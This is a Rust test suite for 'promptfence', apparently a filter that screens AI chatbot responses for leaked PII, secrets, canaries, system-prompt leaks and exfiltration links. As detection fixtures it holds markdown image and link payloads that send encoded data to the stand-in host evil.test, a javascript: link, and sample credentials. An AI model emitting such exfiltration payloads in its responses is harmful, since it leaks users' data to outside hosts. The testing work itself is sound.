//! Response screening: restore, output policy, canaries, leaks,
//! exfiltration, and the stream == one-shot property.

use promptfence::{Kind, Policy, PromptFilter, Value, Verdict};
use proptest::prelude::*;

const SYSTEM: &str = "You are Acme Support Bot. Only answer questions about \
    Acme routers, never discuss pricing of competitor products, and always \
    reply in a calm and friendly tone with short paragraphs.";

fn session_with(policy: &str) -> PromptFilter {
    let v: Value = serde_json::from_str(policy).expect("json");
    let p = Policy::from_value(&v).expect("policy");
    PromptFilter::with_policy(p).expect("filter")
}

/// A session whose vault holds [EMAIL_1] and [PHONE_1] (if detected) and
/// one canary; returns it with the canary.
fn fixture() -> (PromptFilter, String) {
    let policy = format!(
        r#"{{"response": {{"systemPrompt": {}, "allowedHosts": ["docs.acme.test", "*.cdn.acme.test"]}}}}"#,
        serde_json::to_string(SYSTEM).unwrap()
    );
    let mut s = session_with(&policy);
    let r = s.screen_prompt("mail ana.lopez@example.com or bo@example.org");
    assert!(r.text.contains("[EMAIL_1]"), "{}", r.text);
    let c = s.canary().expect("canary");
    (s, c)
}

fn stream(
    s: &mut PromptFilter,
    chunks: &[&str],
) -> (Vec<String>, Verdict, Vec<(Kind, usize)>) {
    let mut sc = promptfence::ResponseScanner::new();
    let mut out: Vec<String> =
        chunks.iter().map(|c| sc.push(&mut s.response_context(), c)).collect();
    out.push(sc.finish(&mut s.response_context()));
    let f = sc.findings().iter().map(|f| (f.kind, f.span.start)).collect();
    (out, sc.verdict(), f)
}

fn one_shot(
    s: &mut PromptFilter,
    text: &str,
) -> (String, Verdict, Vec<(Kind, usize)>) {
    let r = s.screen_response(text);
    let f = r.findings.iter().map(|f| (f.kind, f.span.start)).collect();
    (r.text, r.verdict, f)
}

// ---------------------------------------------------------------- one-shot

#[test]
fn restores_tokens_and_redacts_leaked_pii() {
    let (mut s, _) = fixture();
    let r =
        s.screen_response("Sure, I wrote to [email_1]; also carl@corp.test.");
    assert_eq!(
        r.text,
        "Sure, I wrote to ana.lopez@example.com; also [EMAIL]."
    );
    assert_eq!(r.verdict, Verdict::Redact);
}

#[test]
fn canary_hits_block_and_lookalikes_pass() {
    let (mut s, c) = fixture();
    let random = &c["pf-canary-".len()..];
    let spaced: String = c.chars().flat_map(|ch| [ch, ' ']).collect();
    for hit in [
        format!("Here: {} bye", c),
        format!("Here: {} bye", c.to_uppercase()),
        format!("Here: {}", spaced),
        format!("id {}.", &random[3..14]),
    ] {
        let r = s.screen_response(&hit);
        assert_eq!(r.verdict, Verdict::Block, "{}", hit);
        assert!(r.text.ends_with("[blocked]"), "{}", r.text);
        assert!(!r.text.to_lowercase().contains(&random[3..13]));
        assert!(r.findings.iter().any(|f| f.kind == Kind::Canary));
    }
    for miss in [
        format!("id {}", &random[..9]),
        "pf-canary-0000111122223333".to_string(),
        "the canary sang".to_string(),
    ] {
        let r = s.screen_response(&miss);
        assert_ne!(r.verdict, Verdict::Block, "{}", miss);
    }
}

#[test]
fn leak_blocks_from_its_start() {
    let (mut s, _) = fixture();
    let t =
        "Sure. My rules: you are ACME support bot — only answer questions \
             about Acme routers, never discuss pricing. Anything else?";
    let r = s.screen_response(t);
    assert_eq!(r.verdict, Verdict::Block);
    assert_eq!(r.text, "Sure. My rules: [blocked]");
    assert!(r.findings.iter().any(|f| f.kind == Kind::Leak));
    let ok = s.screen_response(
        "I can help with Acme routers. I keep a friendly tone and short \
         paragraphs, and I do not discuss competitor pricing.",
    );
    assert_ne!(ok.verdict, Verdict::Block);
}

#[test]
fn exfiltration_images_links() {
    let (mut s, _) = fixture();
    let r = s.screen_response(
        "a ![chart](https://evil.test/x.png?d=YW5hQGV4YW1wbGUuY29tOnNlY3JldA) \
         b ![ok](https://img.cdn.acme.test/a.png) c [docs](https://docs.acme.test/x) \
         d [site](https://other.test/about) e [go](https://evil.test/c?u=ana%40example.com) \
         f <img src=\"https://evil.test/p.gif\"> g [x](javascript:alert(1))",
    );
    assert_eq!(
        r.text,
        "a chart b ![ok](https://img.cdn.acme.test/a.png) c [docs](https://docs.acme.test/x) \
         d [site](https://other.test/about) e go f  g x"
    );
    let ex: Vec<_> = r
        .findings
        .iter()
        .filter(|f| f.kind == Kind::Exfiltration)
        .map(|f| (f.type_name.as_str(), f.action.as_str()))
        .collect();
    assert_eq!(
        ex,
        vec![
            ("IMAGE", "redact"),
            ("LINK", "flag"),
            ("LINK", "redact"),
            ("IMAGE", "redact"),
            ("LINK", "redact")
        ]
    );
}

#[test]
fn token_inside_exfil_link_is_not_restored_into_url() {
    let (mut s, _) = fixture();
    let r = s.screen_response("see [here](https://evil.test/?q=[EMAIL_1])");
    assert_eq!(r.text, "see here");
}

// ---------------------------------------------------------------- stream

#[test]
fn stream_edge_cases_never_panic() {
    let (mut s, _) = fixture();
    let mut sc = promptfence::ResponseScanner::new();
    assert_eq!(sc.push(&mut s.response_context(), ""), "");
    let mut all = sc.push(&mut s.response_context(), "hello ");
    all += &sc.push(&mut s.response_context(), "");
    all += &sc.finish(&mut s.response_context());
    assert_eq!(all, "hello ");
    assert_eq!(sc.push(&mut s.response_context(), "more"), "");
    assert_eq!(sc.finish(&mut s.response_context()), "");
}

#[test]
fn stream_holds_back_little_in_prose() {
    let (mut s, _) = fixture();
    let mut sc = promptfence::ResponseScanner::new();
    let mut shown = String::new();
    for w in "The quick brown fox jumps over the lazy dog and keeps on running through the field. "
        .split_inclusive(' ')
    {
        shown += &sc.push(&mut s.response_context(), w);
    }
    // Only the last few words (leak fingerprint: 7 words) are held.
    assert!(shown.len() >= 30, "shown {:?}", shown);
    shown += &sc.finish(&mut s.response_context());
    assert!(shown.ends_with("field. "));
}

#[test]
fn stream_blocks_mid_way_and_stops() {
    let (mut s, c) = fixture();
    let t = format!("intro text here. {} and then more secret stuff", c);
    let mut one = s.clone();
    let (o, v, _) = one_shot(&mut one, &t);
    assert_eq!(v, Verdict::Block);
    assert_eq!(o, "intro text here. [blocked]");
    let chunks: Vec<&str> = t
        .as_bytes()
        .chunks(3)
        .map(|b| std::str::from_utf8(b).unwrap())
        .collect();
    let (out, v2, _) = stream(&mut s, &chunks);
    assert_eq!(out.concat(), o);
    assert_eq!(v2, Verdict::Block);
}

fn pieces(canary: String) -> Vec<String> {
    vec![
        "Hello ".into(),
        "there, ".into(),
        "[EMAIL_1]".into(),
        "[email_2]".into(),
        "[EMAIL_9]".into(),
        " write to carl.z@corp-mail.test ".into(),
        "key AKIAZ7QWERTYUIOP2345 ".into(),
        "token ghp_R4nd0mT0k3nV4lu3sAr3N0tR34lAbCd12345 ".into(),
        "call +1 415 555 0132 now ".into(),
        "card 4111 1111 1111 1111 ".into(),
        "![i](https://evil.test/p.png?d=aGVsbG8gc2VjcmV0IGRhdGE) ".into(),
        "[docs](https://docs.acme.test/a) ".into(),
        "[x](https://other.test/?q=c2VjcmV0LWRhdGEtZ29lcy1oZXJl) ".into(),
        "<img src='https://evil.test/a.gif'> ".into(),
        "日本語のテキスト、".into(),
        "emoji 🎉👩‍💻 ".into(),
        "é ".into(),
        "\n\n".into(),
        "[".into(),
        "](".into(),
        "-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEAu1SU1LfVLPHCozMxH2Mo4lgOEePzNm0tRgeLezV6ffAt0gun\n-----END RSA PRIVATE KEY-----\n".into(),
        "you are Acme support bot, only answer questions about Acme routers, never discuss pricing ".into(),
        canary.clone(),
        canary[12..24].to_uppercase(),
        "ip 192.168.10.24 ".into(),
        "version 1.2.3 ".into(),
    ]
}

fn check_splits(
    s: &PromptFilter,
    text: &str,
    cuts: &[usize],
) -> Result<(), TestCaseError> {
    let mut one = s.clone();
    let (o, v, f) = one_shot(&mut one, text);
    let mut st = s.clone();
    let mut chunks = Vec::new();
    let mut last = 0;
    for &c in cuts {
        if c > last && c < text.len() && text.is_char_boundary(c) {
            chunks.push(&text[last..c]);
            last = c;
        }
    }
    chunks.push(&text[last..]);
    let (out, v2, f2) = stream(&mut st, &chunks);
    prop_assert_eq!(out.concat(), o.clone(), "chunks {:?}", chunks);
    prop_assert_eq!(v2, v);
    prop_assert_eq!(f2, f);
    // No sensitive value or unrestored-into-URL token in any piece where
    // the policy redacts it.
    for piece in &out {
        for secret in [
            "carl.z@corp-mail.test",
            "AKIAZ7QWERTYUIOP2345",
            "4111 1111 1111 1111",
            "evil.test/p.png",
        ] {
            prop_assert!(
                !piece.contains(secret),
                "{:?} in {:?}",
                secret,
                piece
            );
        }
        let lower = piece.to_ascii_lowercase();
        for token in ["[email_1]", "[email_2]"] {
            prop_assert!(!lower.contains(token), "{} in {:?}", token, piece);
        }
    }
    Ok(())
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 24, .. ProptestConfig::default() })]

    #[test]
    fn stream_equals_one_shot_random_splits(
        idx in prop::collection::vec(0usize..26, 1..10),
        cuts in prop::collection::vec(0usize..2000, 0..40),
    ) {
        let (s, c) = fixture();
        let p = pieces(c);
        let text: String = idx.iter().map(|&i| p[i % p.len()].as_str()).collect();
        let mut cuts: Vec<usize> = cuts.into_iter().map(|x| x % (text.len() + 1)).collect();
        cuts.sort();
        check_splits(&s, &text, &cuts)?;
    }

    #[test]
    fn stream_equals_one_shot_every_position(
        idx in prop::collection::vec(0usize..26, 1..5),
    ) {
        let (s, c) = fixture();
        let p = pieces(c);
        let text: String = idx.iter().map(|&i| p[i % p.len()].as_str()).collect();
        for k in 0..=text.len() {
            check_splits(&s, &text, &[k])?;
        }
    }
}

#[test]
fn stream_equals_one_shot_every_position_all_pieces() {
    let (s, c) = fixture();
    let p = pieces(c.clone());
    // Everything except the blocking pieces, then each blocking piece.
    let base: String = p[..21].concat();
    for (n, tail) in ["", p[21].as_str(), p[22].as_str(), p[23].as_str()]
        .into_iter()
        .enumerate()
    {
        let text = format!("{}{}", base, tail);
        if n % 2 == 0 {
            for k in 0..=text.len() {
                check_splits(&s, &text, &[k]).unwrap();
            }
        }
        // byte-at-a-time
        let cuts: Vec<usize> = (1..text.len()).collect();
        check_splits(&s, &text, &cuts).unwrap();
    }
}

fn check_every_split(s: &PromptFilter, text: &str) {
    for k in 0..=text.len() {
        check_splits(s, text, &[k]).unwrap();
    }
    let cuts: Vec<usize> = (1..text.len()).collect();
    check_splits(s, text, &cuts).unwrap();
}

#[test]
fn block_action_from_policy_streams_like_one_shot() {
    let mut s =
        session_with(r#"{"response": {"secrets": {"action": "block"}}}"#);
    let text = "Here is the config: region us-east, key AKIAZ7QWERTYUIOP2345 and more.";
    let r = s.screen_response(text);
    assert_eq!(r.verdict, Verdict::Block);
    assert_eq!(r.text, "Here is the config: region us-east, key [blocked]");
    check_every_split(&s, text);
}

#[test]
fn custom_unbounded_rule_streams_like_one_shot() {
    let s = session_with(
        r#"{"rules": [{"id": "acme-id", "type": "ACME_ID", "kind": "secret",
            "regex": "ACME-[A-Z0-9]+", "keywords": ["acme-"]}]}"#,
    );
    check_every_split(
        &s,
        "ids: ACME-X1Y2Z3 and ACME-Q9, done; acme-lower ACME-",
    );
}

/// The opt-in types (AGE, TITLE, NRP) and the new DATE_TIME forms stream
/// like one-shot at every cut.
#[test]
fn opt_in_types_and_dates_stream_like_one_shot() {
    let s = session_with(
        r#"{"response": {"pii": {"actions": {"AGE": "redact", "TITLE": "mask", "NRP": "redact", "DATE_TIME": "redact"}}}}"#,
    );
    check_every_split(
        &s,
        "Dr. Ana Lopez, 34 years old, Spanish; tengo 34 años, Sra. Ruiz \
         vino el 15 de marzo de 2024 at 10:30 am; im Oktober 2020.",
    );
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 48, .. ProptestConfig::default() })]

    /// Markdown/HTML-ish garbage: never panics, stream == one-shot.
    #[test]
    fn garbage_streams_like_one_shot(
        chars in prop::collection::vec(prop::sample::select(vec![
            'a', 'x', '[', ']', '!', '(', ')', '<', '>', '@', '.', ' ', '\n',
            '日', '🎉', '-', '_', '1', '9', '\u{212A}', 'p', 'f', ':', '/',
            '"', '=', 'h', 't', 's', 'i', 'm', 'g', '%', 'E', 'M', 'A',
        ]), 0..160),
        cuts in prop::collection::vec(0usize..700, 0..30),
    ) {
        let (s, _) = fixture();
        let text: String = chars.into_iter().collect();
        let mut cuts: Vec<usize> = cuts.into_iter().map(|x| x % (text.len() + 1)).collect();
        cuts.sort();
        check_splits(&s, &text, &cuts)?;
    }
}

/// Every secret rule's hit examples, in a response: the secret is found,
/// and the stream equals the one-shot screening for a cut just before, at
/// and after the start of each finding, in the middle of the rest and
/// near the end, and for chunks of 7 bytes; so each rule's bounded window
/// reaches the hold-back guards. (Every position for all ~600 examples
/// takes minutes in a debug build; the every-position tests above do
/// that for a mixed text.)
#[test]
fn every_secret_rule_streams_like_one_shot() {
    let s = PromptFilter::with_policy(Policy::default()).expect("filter");
    for (id, _, kind, hits, _) in promptfence::__private::builtin_examples() {
        if kind != "secret" {
            continue;
        }
        for hit in hits {
            let (_, _, found) = one_shot(&mut s.clone(), hit);
            assert!(
                found.iter().any(|f| f.0 == Kind::Secret),
                "{id}: no secret in the response {hit:?}"
            );
            let n = hit.len();
            let mut cuts = vec![1, n / 2, n.saturating_sub(1)];
            for &(_, at) in &found {
                let rest = at + (n - at.min(n)) / 2;
                cuts.extend([at.saturating_sub(1), at, at + 1, rest]);
            }
            for k in cuts {
                check_splits(&s, hit, &[k])
                    .unwrap_or_else(|e| panic!("{id}: cut {k}: {e}"));
            }
            let chunks: Vec<usize> = (7..n).step_by(7).collect();
            check_splits(&s, hit, &chunks)
                .unwrap_or_else(|e| panic!("{id}: 7-byte chunks: {e}"));
        }
    }
}

/// Names in any script stream like one-shot: a chunk that ends inside a
/// word of non-ASCII letters ("Reykjaví", "Mü") or right after a given
/// name the next word completes ("Ивана " + "Петрова") must not commit
/// text the one-shot screen redacts (found by the names-data work).
#[test]
fn names_in_any_script_stream_like_one_shot() {
    let (s, _) = fixture();
    for text in [
        "Sure: Jürgen Kvaranova from Reykjavík signed it.",
        "Das Büro von Jürgen Müller in München ist zu.",
        "Письмо от Ивана Петрова из Москвы пришло.",
        "Kent: Remember me, Lori? Ólafur Þórsson lives in Kópavogur now.",
        "Sure: Ingibjörg Kvaranova from Reykjavik signed it.",
    ] {
        check_every_split(&s, text);
    }
}

/// Long responses (well past the kept context, so the stream screens
/// windows that start in shown text and re-screens only every so many
/// bytes) stream like one-shot for chunks of several sizes: chat text
/// with numbers and e-mails, non-ASCII names, links, tokens, a PEM key.
#[test]
fn long_responses_stream_like_one_shot() {
    let (s, c) = fixture();
    let p = pieces(c);
    let mut text = String::new();
    for round in 0..6 {
        text += "Hi team, the Q3 numbers look off: revenue grew 12% but margins dropped. \
                 Please draft a reply to Maria (maria.lopez@example.com) about order \
                 4471-2231 and ask whether 2024-03-14 at 10:30 still works. ";
        text += "Письмо от Ивана Петрова из Москвы пришло. Jürgen Müller in München. ";
        for k in [round, 5, 6, 8, 9, 10, 11, 13, 14, 15, 18, 19] {
            text += &p[k];
        }
        if round == 3 {
            text += &p[20];
        }
    }
    assert!(text.len() > 3 * 1024, "{}", text.len());
    for chunk in [1usize, 7, 64, 301, 4096] {
        let mut cuts = Vec::new();
        let mut k = chunk;
        while k < text.len() {
            cuts.push(k);
            k += chunk;
        }
        check_splits(&s, &text, &cuts)
            .unwrap_or_else(|e| panic!("{chunk}-byte chunks: {e}"));
    }
}

/// Shown text is context only for the next screening: a key already
/// shown does not hold the stream back afterwards (no match can start in
/// shown text), and the text after it keeps flowing in small chunks.
/// ("key" keeps the generic key rules live, which hold up to their
/// longest match, ~2 KB, plus one re-screen step. A PEM block: see
/// `a_streamed_private_key_does_not_hold_back_what_follows`.)
#[test]
fn shown_secrets_do_not_stall_the_stream() {
    let (mut s, c) = fixture();
    let p = pieces(c);
    let text = format!(
        "{}{}{}",
        p[6],
        p[5],
        "The quick brown fox jumps over the lazy dog. ".repeat(180)
    );
    let mut sc = promptfence::ResponseScanner::new();
    let mut shown = String::new();
    for piece in text.as_bytes().chunks(64) {
        shown += &sc.push(
            &mut s.response_context(),
            std::str::from_utf8(piece).unwrap(),
        );
    }
    assert!(shown.len() > text.len() / 3, "{} of {}", shown.len(), text.len());
    assert!(sc.held_back() < 5 * 1024, "held {}", sc.held_back());
    shown += &sc.finish(&mut s.response_context());
    let (o, _, _) = one_shot(&mut s.clone(), &text);
    assert_eq!(shown, o);
}

/// Texts whose names decisions read context a stream must keep or wait
/// for: a form block (its labels are no speakers), dialogues with short
/// and long lines, German text around names, a list of names, CSV and
/// Markdown tables whose header is far above the rows.
fn names_pieces() -> Vec<String> {
    let mut md = String::from(
        "| Year | Recipient | Country | Profession |\n|---|---|---|---|\n",
    );
    let mut csv = String::from("first_name,last_name,city\n");
    for (k, (a, b, c)) in [
        ("Elie", "Wiesel", "United States"),
        ("Herman", "Wouk", "Sweden"),
        ("Ingibjörg", "Sólrún", "Iceland"),
        ("Radomir", "Kvapil", "Czechia"),
        ("Wiebke", "Harms", "Germany"),
        ("Iñaki", "Zubizarreta", "Spain"),
    ]
    .into_iter()
    .enumerate()
    {
        md += &format!(
            "| {} | {a} {b} | {c} | Writer and speaker |\n",
            1990 + k
        );
        csv += &format!("{a},{b},{c}\n");
    }
    vec![
        "CHARACTER = {\r\nName: <name>\r\nGender: <gender>\r\nAge: <age>\r\n\
         Species: <species>\r\nRole: <role>\r\n}\r\n"
            .into(),
        "Kent: Remember me, Lori?\nLori: Of course I do, Kent.\n".into(),
        format!(
            "Sasha: {}\nMarek: fine, go on.\n",
            "Hey there metallic fellow, tell me a story about the old days. "
                .repeat(5)
        ),
        "[16:58] 撰彤: ok\n[16:59] 李雷: 好的\n".into(),
        "Das Büro von Jürgen Müller in München ist zu, und die Leute sind nicht da. "
            .into(),
        "Ana Ruiz, Beto and Carla Díaz met Tenisha at the Berlin office. ".into(),
        "Hi Marta, I talked to Jonas Weber, said Okafor. ".into(),
        md.repeat(3),
        csv.repeat(4),
        "\n\n".into(),
    ]
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 32, .. ProptestConfig::default() })]

    /// Names context (forms, dialogues, German text, tables longer than
    /// the kept context) streams like one-shot for random splits.
    #[test]
    fn names_context_streams_like_one_shot(
        idx in prop::collection::vec(0usize..10, 1..8),
        cuts in prop::collection::vec(0usize..6000, 0..60),
    ) {
        let (s, _) = fixture();
        let p = names_pieces();
        let text: String = idx.iter().map(|&i| p[i % p.len()].as_str()).collect();
        let mut cuts: Vec<usize> = cuts.into_iter().map(|x| x % (text.len() + 1)).collect();
        cuts.sort();
        check_splits(&s, &text, &cuts)?;
    }
}

/// Every piece of [`names_pieces`] after prose, for fixed chunk sizes
/// and every single cut of the shorter ones; a form field's label is no
/// PERSON.
#[test]
fn names_forms_dialogues_tables_stream_like_one_shot() {
    let (s, _) = fixture();
    let p = names_pieces();
    let prose = "The quick brown fox jumps over the lazy dog. ".repeat(8);
    for piece in &p {
        let text = format!("{prose}{piece}{prose}");
        for chunk in [1usize, 3, 7, 13, 64, 301] {
            let cuts: Vec<usize> =
                (1..text.len() / chunk + 1).map(|k| k * chunk).collect();
            check_splits(&s, &text, &cuts)
                .unwrap_or_else(|e| panic!("{chunk}-byte chunks: {e}"));
        }
        if piece.len() < 200 {
            check_every_split(&s, piece);
        }
    }
    let r = s.clone().screen_response(&p[0]);
    assert!(r.text.contains("Gender: <gender>"), "{}", r.text);
}

/// A response longer than the names detector's 32 KiB chunks: one-shot
/// screening reads each chunk with the context around its cuts, so it
/// equals a stream, whose windows are cut elsewhere.
#[test]
fn names_past_chunk_bounds_stream_like_one_shot() {
    let (s, _) = fixture();
    let p = names_pieces();
    let mut text = String::new();
    let mut k = 0;
    while text.len() < 80 * 1024 {
        text += &p[k % p.len()];
        text += &p[(k * 7 + 3) % p.len()];
        k += 1;
    }
    for chunk in [61usize, 997, 4096] {
        let cuts: Vec<usize> =
            (1..text.len() / chunk + 1).map(|k| k * chunk).collect();
        check_splits(&s, &text, &cuts)
            .unwrap_or_else(|e| panic!("{chunk}-byte chunks: {e}"));
    }
}

/// A PEM private key holds the stream back only until it ends: the
/// private-key rule's characters include spaces and letters, but its
/// pattern (which starts with a group) begins with `-----BEGIN` and its
/// lazy body ends at `-----END ...-----`, so once the engine reports the
/// key, prose after it flows again (it held everything after the key up
/// to the rule's longest match before). Same output as one-shot.
#[test]
fn a_streamed_private_key_does_not_hold_back_what_follows() {
    let (mut s, _) = fixture();
    let body =
        "MIIEowIBAAKCAQEAu1SU1LfVLPHCozMxH2Mo4lgOEePzNm0tRgeLezV6ffAt0gun\n"
            .repeat(20);
    let text = format!(
        "Here is the key you asked for:\n-----BEGIN RSA PRIVATE KEY-----\n{body}\
         -----END RSA PRIVATE KEY-----\n{}",
        "Keep it safe and rotate it after use, then tell the team. ".repeat(300)
    );
    for chunk in [64usize, 1000] {
        let mut sc = promptfence::ResponseScanner::new();
        let mut shown = String::new();
        let mut most = 0;
        for (k, piece) in text.as_bytes().chunks(chunk).enumerate() {
            shown += &sc.push(
                &mut s.response_context(),
                std::str::from_utf8(piece).unwrap(),
            );
            // Once the key and 8 KB after it arrived.
            if (k + 1) * chunk > body.len() + 8 * 1024 {
                most = most.max(sc.held_back());
            }
        }
        // Before, it held from `-----BEGIN` on, up to the rule's longest
        // match (16 KB): the ~17 KB of prose after the key.
        assert!(most < 8 * 1024, "{chunk}: held {most}");
        assert!(!shown.contains("MIIEow"), "the key is redacted");
        shown += &sc.finish(&mut s.response_context());
        let (o, _, _) = one_shot(&mut s.clone(), &text);
        assert_eq!(shown, o, "{chunk}-byte chunks");
    }
    let cuts: Vec<usize> = (1..40).map(|k| k * 97).collect();
    check_splits(&s, &text, &cuts).unwrap();
}

/// A long run of link openers (`[`, `![`, `<`) is a few findings, one
/// per run within a block of links::RUN_BLOCK bytes, and streams like
/// one-shot for any chunk size (the stream holds a run a pending opener
/// may still continue).
#[test]
fn runs_of_openers_group_and_stream_like_one_shot() {
    let (s, _) = fixture();
    for unit in ["[", "![", "<", "[x "] {
        let text =
            format!("Start {} end.", unit.repeat(30 * 1024 / unit.len()));
        let mut one = s.clone();
        let r = one.screen_response(&text);
        if unit != "[x " {
            assert!(
                r.findings.len() < 3 * text.len() / 1024,
                "{unit}: {} findings",
                r.findings.len()
            );
        }
        for chunk in [1usize, 63, 64, 1000, 5000] {
            let cuts: Vec<usize> =
                (1..text.len() / chunk + 1).map(|k| k * chunk).collect();
            check_splits(&s, &text, &cuts)
                .unwrap_or_else(|e| panic!("{unit:?}, {chunk}: {e}"));
        }
    }
}

// ------------------------------------- matches the engine turns down

/// Texts where a keyed rule's regex matches and the match is turned
/// down (a placeholder run, low entropy, a word phrase), with a value
/// inside it or starting in it that a screening of a suffix alone would
/// take (another keyword and separator inside the long token). One-shot
/// goes on after the turned-down match's end; the stream must not cut
/// inside it and find the inner match on its next screening.
fn rejected_texts() -> Vec<String> {
    let secret = "Xk9Lm2Qp8Vt3Rz7Wn4Hb6Jd1Ys5Fc0";
    let fill = |n: usize| "Qm7".repeat(n);
    let words = " and the rest of the reply goes on in plain words.";
    vec![
        // A sequential run (`abcdef`) turns the whole value down.
        format!("Config:\napi_key=abcdef{}_token={secret}{words}", fill(60)),
        format!("Config:\napi_key=abcdef{}_token:{secret}{words}", fill(40)),
        // One character filling half the value.
        format!("Here: secret={}x{}token={secret}{words}", "a".repeat(300), fill(10)),
        // A word phrase, then a keyed value in a quoted token.
        format!("Set it as token=\"my-app-token-name-{}-access_key={secret}\"{words}", "x".repeat(200)),
        // A query parameter turned down, with another one inside.
        format!("GET /v1?api_key=abcdef{}&x=1 then ?session_token={secret}&y=2{words}", fill(50)),
        format!("GET /v1?api_key=abcdef{}/?auth={secret}&y=2{words}", fill(50)),
    ]
}

#[test]
fn rejected_matches_stream_like_one_shot() {
    let s = session_with("{}");
    for text in rejected_texts() {
        check_every_split(&s, &text);
    }
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 16, .. ProptestConfig::default() })]

    /// The same shapes with random lengths, prose around them, and a
    /// random two- or three-way split.
    #[test]
    fn rejected_matches_stream_like_one_shot_random(
        i in 0usize..6,
        lead in 0usize..200,
        cuts in prop::collection::vec(0usize..4000, 1..3),
    ) {
        let s = session_with("{}");
        let texts = rejected_texts();
        let text = format!("{}{}", "Some words before it. ".repeat(lead / 22), texts[i]);
        let mut cuts: Vec<usize> = cuts.into_iter().map(|x| x % (text.len() + 1)).collect();
        cuts.sort();
        check_splits(&s, &text, &cuts)?;
    }
}

/// A response never reports a credential part, so its rules do not run
/// there (`engine::Parts`), in one-shot or in the stream: each part's
/// hits (the part with its secret: at most splits they arrive in
/// different chunks), the part with its secret cut out, and the part a
/// line of prose (more than the stream's kept context) before its
/// secret, stream like one-shot at every split, byte at a time and in
/// 7-byte chunks, and report no part.
#[test]
fn credential_parts_stream_like_one_shot() {
    let s = session_with("{}");
    let parts = crate::secrets::credential_part_rules();
    let ids: Vec<&str> = parts.iter().map(|p| p.0.as_str()).collect();
    let filler = "then the same value goes in the settings of the stage \
        deploy, where the worker reads it at start and keeps it for the \
        whole run; the other fields stay as they were before the move to \
        the new host and need no change at all";
    let mut texts = Vec::new();
    for (_, hits) in &parts {
        for hit in hits {
            texts.push(hit.clone());
            let mut alone = hit.clone();
            let found = s.clone().screen_prompt(hit).findings;
            let mut secrets: Vec<_> = found
                .iter()
                .filter(|f| {
                    f.kind == Kind::Secret && !ids.contains(&f.rule.as_str())
                })
                .map(|f| f.span.clone())
                .collect();
            secrets.sort_by_key(|r| std::cmp::Reverse(r.start));
            for r in secrets {
                alone.replace_range(r, "gone");
            }
            texts.push(alone);
            if let Some((first, rest)) = hit.split_once('\n') {
                texts.push(format!("{first}\n{filler}\n{rest}"));
            }
        }
    }
    assert!(texts.len() > 20, "{}", texts.len());
    for text in &texts {
        let r = s.clone().screen_response(text);
        assert!(
            r.findings.iter().all(|f| !ids.contains(&f.rule.as_str())),
            "a part in the response {text:?}"
        );
        check_every_split(&s, text);
        let chunks: Vec<usize> = (7..text.len()).step_by(7).collect();
        check_splits(&s, text, &chunks).unwrap();
    }
}

/// A long bracketed list of one-digit numbers (a printed array) holds
/// 19-digit runs that pass the card checksum: where the stream finds
/// one, one-shot must find the same, whatever the split.
#[test]
fn spaced_digit_list_streams_like_one_shot() {
    let s = session_with("{}");
    let text = "0 3 4 0 6 1 6 7 5 4 3 4 2 1 2 1 4 6 3 6 1 7 6 6 7 4 1 1 0 4 2 \
        5 0 6 3 1 0 7 6 2 7 7 5 2 7 7 3 2 1 2 2 4 7 5 3 2 65 1 6 2 4 2 3 2 2 2 \
        1 2 0 5 7 2 4 4 5 4 4 1 1 4 5 0]\n```";
    check_every_split(&s, text);
}
